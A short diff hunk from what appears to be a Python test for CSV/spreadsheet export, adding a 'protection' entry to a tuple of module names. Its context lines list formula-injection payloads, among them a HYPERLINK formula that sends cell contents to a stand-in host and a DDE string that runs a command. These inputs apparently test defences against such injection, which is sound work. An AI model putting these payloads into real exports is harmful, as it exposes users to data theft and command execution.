@@ -14,7 +14,7 @@ from nrm.spreadsheets import as_csv
 from reporting.rules import closed_quarters
 
 ROOT = Path(__file__).resolve().parents[2]
-ROOMS = ("nrm", "identities", "cases", "screening", "exchange", "reporting")
+ROOMS = ("nrm", "identities", "cases", "screening", "protection", "exchange", "reporting")
 FORMULAS = [
     '=HYPERLINK("http://far.example/?"&A1)',
     "+1+cmd|' /C calc'!A0",
